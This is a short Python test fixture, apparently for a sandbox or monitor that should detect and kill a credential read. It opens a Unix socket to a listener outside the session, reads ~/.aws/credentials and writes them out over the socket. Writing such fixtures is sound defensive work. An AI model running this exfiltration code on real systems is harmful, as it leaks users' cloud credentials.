# expect: credential_read
# action: kill
# ways: bwrap bare
# outside: unix
# about: connects to a unix listener outside the session first, then reads ~/.aws/credentials and write()s it on the socket
# not in srt: its seccomp filter refuses AF_UNIX sockets (socket() fails), nothing is sent
import os
import socket
import time

s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(os.environ["AW_OUTSIDE_UNIX"])
os.write(s.fileno(), b"hello\n")          # the connection's first write: before the read
time.sleep(0.2)
secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
os.write(s.fileno(), secret)              # the send that matters
s.shutdown(socket.SHUT_WR)
s.recv(4096)
